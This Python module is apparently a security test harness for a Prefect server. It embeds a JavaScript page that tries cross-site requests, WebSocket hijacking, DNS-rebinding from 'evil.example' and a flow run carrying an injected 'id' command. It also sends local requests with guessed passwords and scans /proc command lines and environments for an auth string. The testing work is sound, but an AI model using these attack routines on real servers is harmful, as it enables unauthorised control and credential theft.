"""Attacks of strangers on a Prefect server: pages of other addresses in a real browser, and local users.

An attack succeeded when what it tried is there afterwards, as the operator sees it, or when it read what it
should not. Each has a mark of its own, so what is found shows which attack made it.
"""

from __future__ import annotations

import ctypes
import json
import os
import socket
import time
import uuid
from base64 import b64encode
from collections.abc import Callable, Iterator, Mapping
from contextlib import ExitStack, contextmanager, nullcontext, suppress
from dataclasses import dataclass
from datetime import UTC, datetime
from http.client import HTTPConnection
from pathlib import Path
from urllib.parse import urlsplit

from websockets.sync.client import connect

SECRET = "victim-"
"""What a way that reads has to bring back: the beginning of the name of a deployment."""
STRANGER = 65_534

PAGE = """<!doctype html><title>another page</title><script>
const json = {'content-type': 'application/json'};
const event = mark => ({id: crypto.randomUUID?.() ?? mark.id, occurred: new Date().toISOString(), event: mark.name,
  resource: {'prefect.resource.id': mark.name}, payload: {}});
const answer = async (base, path, method, body, more = {}) =>
  (await fetch(base + path, {method, headers: {...json, ...more}, body: body && JSON.stringify(body)})).text();
const open = base => new Promise((good, bad) => {
  const line = new WebSocket(base.replace(/^http/, 'ws'), 'prefect');
  line.onopen = () => { line.send(JSON.stringify({type: 'auth', token: 'x'})); };
  line.onmessage = said => JSON.parse(said.data).type === 'auth_success' ? good(line) : bad(said.data);
  line.onerror = line.onclose = () => bad('closed');
});
const submit = (url, target) => {
  const form = Object.assign(document.createElement('form'), {method: 'POST', action: url, target});
  document.body.append(form); form.submit();
};
const ways = {
  read: (base) => answer(base, '/api/deployments/filter', 'POST', {}),
  get: (base, mark) => answer(base, '/api/deployments/' + mark.deployment, 'GET'),
  write: (base, mark) => answer(base, '/api/variables/', 'POST', {name: mark.plain, value: 'x'}),
  proven: async (base, mark) => {
    const told = JSON.parse(await answer(base, '/api/csrf-token?client=a', 'GET')).token ?? 'x';
    const proof = {'Prefect-Csrf-Token': told, 'Prefect-Csrf-Client': 'a'};
    return answer(base, '/api/variables/', 'POST', {name: mark.plain, value: 'x'}, proof);
  },
  run: (base, mark) =>
    answer(base, `/api/deployments/${mark.deployment}/create_flow_run`, 'POST', {name: mark.name}),
  command: (base, mark) => answer(base, `/api/deployments/${mark.deployment}/create_flow_run`, 'POST',
    {name: mark.name, job_variables: {command: 'id'}}),
  event: (base, mark) => answer(base, '/api/events', 'POST', [event(mark)]),
  plant: async (base, mark) => {
    const line = await open(base + '/api/events/in');
    line.send(JSON.stringify(event(mark)));
    await new Promise(done => setTimeout(done, 300));
    return '';
  },
  listen: async (base) => { await open(base + '/api/events/out'); return 'victim-heard'; },
  logs: async (base) => { await open(base + '/api/logs/out'); return 'victim-heard'; },
  form: async (base, mark) => {
    const frame = Object.assign(document.createElement('iframe'), {name: mark.name});
    document.body.append(frame);
    submit(`${base}/api/deployments/${mark.deployment}/pause_deployment`, mark.name);
    await new Promise(done => setTimeout(done, 400));
    return '';
  },
  blind: async (base, mark) => {
    await fetch(`${base}/api/deployments/${mark.deployment}/pause_deployment`, {method: 'POST', mode: 'no-cors'});
    return '';
  },
  beacon: async (base, mark) => {
    navigator.sendBeacon(`${base}/api/deployments/${mark.deployment}/pause_deployment`);
    await new Promise(done => setTimeout(done, 300));
    return '';
  },
};
const tried = async (way, base, mark) => {
  try { return await Promise.race([ways[way](base, mark), new Promise(d => setTimeout(() => d('late'), 20000))]); }
  catch (refused) { return 'refused: ' + refused; }
};
const begin = (base, marks) => { window.told = Promise.all(
  Object.entries(marks).map(async ([way, mark]) => [way, await tried(way, base, mark)])); };
</script>"""
PAUSING = ("form", "blind", "beacon")
"""The ways that can leave nothing but a deployment that is paused; each has one of its own."""
WAYS = (
    "read", "get", "write", "proven", "run", "command", "event", "plant", "listen", "logs", *PAUSING,
)  # fmt: skip


@dataclass(frozen=True, slots=True)
class Mark:
    """What a way leaves behind where it gets in: a name, and a deployment that it may run or pause."""

    name: str
    deployment: str

    def said(self) -> Mapping[str, str]:
        """For a page."""
        plain = self.name.replace("-", "_")
        return {"name": self.name, "plain": plain, "deployment": self.deployment, "id": str(uuid.uuid4())}


Ask = Callable[[str, str, object], object]
"""How the operator asks the server: method, path below /api, body."""


class Marks:
    """The marks of one server, and which of them are there."""

    def __init__(self, ask: Ask) -> None:
        self._ask = ask
        self._flow = ask("POST", "/flows/", {"name": "victim"})["id"]
        self._shared = self._deployment(f"{SECRET}of-all")
        self._made: dict[str, Mark] = {}

    def __getitem__(self, way: str) -> Mark:
        """A new mark for a way."""
        name = f"{SECRET}{len(self._made)}-{uuid.uuid4().hex[:8]}"
        self._made[way] = Mark(name, self._deployment(name) if way.endswith(PAUSING) else self._shared)
        return self._made[way]

    def _deployment(self, name: str) -> str:
        asked = {"name": name, "flow_id": self._flow, "paused": False}
        return self._ask("POST", "/deployments/", asked)["id"]

    def there(self) -> set[str]:
        """The ways that left something behind."""
        found = {
            each["name"].replace("_", "-") for each in self._ask("POST", "/variables/filter", {"limit": 200})
        }
        found |= {each["name"] for each in self._all("/flow_runs/filter")}
        found |= {each["name"] for each in self._all("/deployments/filter") if each["paused"]}
        wanted = {"filter": {"event": {"prefix": [SECRET]}}, "limit": 50}
        found |= {each["event"] for each in self._ask("POST", "/events/filter", wanted)["events"]}
        return {way for way, mark in self._made.items() if mark.name in found}

    def until_events_are_there(self) -> None:
        """Wait until an event of the operator's own is there, which is kept after all that were taken before."""
        name = f"operator-{uuid.uuid4().hex}"
        self._ask("POST", "/events", [event_of(name)])
        wanted = {"filter": {"event": {"name": [name]}}, "limit": 1}
        deadline = time.monotonic() + 90
        while not self._ask("POST", "/events/filter", wanted)["events"]:
            assert time.monotonic() < deadline, "no event is kept"
            time.sleep(0.1)

    def _all(self, path: str) -> Iterator[Mapping]:
        at = 0
        while some := self._ask("POST", path, {"limit": 200, "offset": at}):
            yield from some
            at += len(some)


def pages(own: str, other: int) -> Mapping[str, tuple[str, str]]:
    """From which address a page asks, and which one it asks, by what it is; `other` is the port of their server."""
    at = urlsplit(own)
    points_here = f"{at.scheme}://evil.example:{at.port}"
    return {
        "another port": (f"http://{at.hostname}:{other}", own),
        "our other name, another port": (f"http://localhost:{other}", own),
        "under our other name": (f"http://{at.hostname}:{other}", own.replace(at.hostname, "localhost")),
        "another site": (f"http://evil.example:{other}", own),
        "a name that points here": (points_here, points_here),
        "a page of no origin": (f"http://{at.hostname}:{other}/sandboxed", own),
    }


def every_way(own: str) -> set[str]:
    """All that `by_pages` tries."""
    return {f"{whose}: {way}" for whose in pages(own, 1) for way in (*WAYS, "frame")}


def by_pages(browser, addresses: Mapping[str, tuple[str, str]], marks: Marks) -> set[str]:
    """The ways by which pages got in; all pages try all ways at once."""
    given = {(whose, way): marks[f"{whose}: {way}"].said() for whose in addresses for way in WAYS}
    read, tried, contexts = set(), {f"{whose}: {way}" for whose, way in given}, []
    asked = {}
    for whose, (address, base) in addresses.items():
        contexts.append(browser.new_context(ignore_https_errors=True))
        theirs = f"{base}/theirs"  # their own server answered under this name before; from now on it is ours
        contexts[-1].route(theirs, lambda route: route.fulfill(body=PAGE, content_type="text/html"))
        contexts[-1].route("**/assets/**", lambda route: route.abort())  # of a frame its title is enough
        page = contexts[-1].new_page()
        page.goto(theirs if address == base else address)
        within = page.frames[-1]
        within.evaluate(
            "([base, marks]) => begin(base, marks)", [base, {way: given[whose, way] for way in WAYS}]
        )
        page.evaluate(FRAME, f"{base}/")
        asked[whose] = (page, within, base)
    for whose, (page, within, base) in asked.items():
        for way, said in within.evaluate("told"):
            if SECRET in said and way in ("read", "get", "listen", "logs"):
                read.add(f"{whose}: {way}")
        if framed(page, base):
            read.add(f"{whose}: frame")
    marks.until_events_are_there()
    for each in contexts:
        each.close()
    return read | (marks.there() & tried)


FRAME = """url => { const frame = document.createElement('iframe'); frame.src = url; document.body.append(frame);
  window.framed = new Promise(done => { frame.onload = done; setTimeout(done, 10000); }).then(() => {}); }"""


def framed(page, base: str) -> bool:
    """Whether a page shows Prefect's own in a frame."""
    page.evaluate("framed")
    shown = [frame for frame in page.frames if frame.url.startswith(f"{base}/") and frame != page.main_frame]
    return any("refect" in frame.title() or "refect" in frame.content() for frame in shown)


def by_local_user(own: str, marks: Marks) -> set[str]:
    """The ways by which another user of this machine got in, through the open port."""
    at = urlsplit(own)
    here = {"Host": at.netloc}
    dressed = {
        "as a program": {},
        "as our own page": {"Origin": own, "Sec-Fetch-Site": "same-origin"},
        "with an empty password": {"Authorization": f"Basic {b64encode(b'interoffice:').decode()}"},
        "with a guessed one": {"Authorization": f"Basic {b64encode(b'interoffice:interoffice').decode()}"},
        "with another scheme": {"Authorization": "Bearer x"},
    }
    given = {f"local user {how}": marks[f"local user {how}"].said() for how in dressed}
    given["local user by WebSocket"] = marks["local user by WebSocket"].said()

    def work() -> list[str]:
        read = []
        for how, headers in dressed.items():
            mark = given[f"local user {how}"]
            line = HTTPConnection(at.hostname, at.port, timeout=10)
            for path, body in (
                ("/api/deployments/filter", {}),
                ("/api/variables/", {"name": mark["plain"], "value": "x"}),
                (f"/api/deployments/{mark['deployment']}/create_flow_run", {"name": mark["name"]}),
                ("/sign-in", mark["name"]),
            ):
                line.request(
                    "POST", path, json.dumps(body), {**here, "content-type": "application/json", **headers}
                )
                if SECRET in line.getresponse().read().decode() and path.endswith("filter"):
                    read.append(f"local user {how}")
        name, sockets = given["local user by WebSocket"]["name"], ("events/out", "logs/out", "events/in")
        opened = [_opened(f"ws://{at.netloc}/api/{what}", name) for what in sockets]
        return [*read, "local user by WebSocket"] if any(opened) else read

    return set(as_stranger(work)) | {way for way in marks.there() if way.startswith("local user")}


def event_of(name: str) -> Mapping[str, object]:
    """An event as Prefect's server takes it."""
    return {
        "id": str(uuid.uuid4()), "occurred": datetime.now(UTC).isoformat(), "event": name,
        "resource": {"prefect.resource.id": name}, "payload": {},
    }  # fmt: skip


def _opened(url: str, name: str) -> bool:
    try:
        with connect(url, subprotocols=["prefect"], open_timeout=10, proxy=None) as line:
            line.send(json.dumps({"type": "auth", "token": "x"}))
            good = json.loads(line.recv(timeout=10)).get("type") == "auth_success"
            if good and url.endswith("in"):
                line.send(json.dumps(event_of(name)))
            return good
    except Exception:  # noqa: BLE001 - whatever keeps a stranger out
        return False


def by_files(state: Path, auth: str, process: int | None = None) -> set[str]:
    """What another user of a machine reads of a state folder, of its processes, or is answered by its sockets.

    `process` is one of another machine on this one. Every folder above the state folder has to be open to all.
    """

    def work() -> list[str]:
        found = []
        for folder, _, names in os.walk(state):
            found += [f"listed {folder}"]
            for name in names:
                with suppress(OSError), (Path(folder) / name).open("rb") as file:
                    file.read(1)
                    found.append(f"read {name}")
        for name in ("fork-server", "scratch/fork-server"):
            with suppress(OSError), socket.socket(socket.AF_UNIX) as line:
                line.connect(str(state / name))
                found.append("connected to the socket of the runs")
        for each in Path("/proc").iterdir():
            with suppress(OSError):
                if auth in (each / "cmdline").read_text("utf-8", "replace"):
                    found.append("read the string on a command line")
            with suppress(OSError):
                if b"AUTH_STRING=" in (each / "environ").read_bytes():
                    found.append("read the environment")
        return found

    return set(as_stranger(work, process))


@contextmanager
def entered(process: int, *kinds: str) -> Iterator[None]:
    """This thread, and what it starts, in the network (`net`) or files (`mnt`) of another process."""
    flags = {"net": 0x40000000, "mnt": 0x00020000}
    enter = ctypes.CDLL(None, use_errno=True).setns
    with ExitStack() as stack:
        before = [(stack.enter_context(open(f"/proc/thread-self/ns/{kind}")), flags[kind]) for kind in kinds]  # noqa: PTH123
        there = [(stack.enter_context(open(f"/proc/{process}/ns/{kind}")), flags[kind]) for kind in kinds]  # noqa: PTH123
        try:
            for space, flag in there:
                assert enter(space.fileno(), flag) == 0, os.strerror(ctypes.get_errno())
            yield
        finally:
            for space, flag in before:
                enter(space.fileno(), flag)


def as_stranger(work: Callable[[], list[str]], process: int | None = None) -> list[str]:
    """What it returns as a user who is nobody here; among the files of another process where one is named.

    A fork of this process, so that it needs no file that only its owner may read.
    """
    reader, writer = os.pipe()
    child = os.fork()
    if child == 0:
        try:
            with entered(process, "mnt") if process else nullcontext():
                os.setgroups([])
                os.setgid(STRANGER)
                os.setuid(STRANGER)
                said = json.dumps(work())
                os.write(writer, said.encode())
        except BaseException as problem:  # noqa: BLE001 - told to the parent
            os.write(writer, json.dumps({"broke": repr(problem)}).encode())
        finally:
            os._exit(0)
    os.close(writer)
    with os.fdopen(reader) as file:
        said = json.loads(file.read())
    os.waitpid(child, 0)
    assert isinstance(said, list), said
    return said
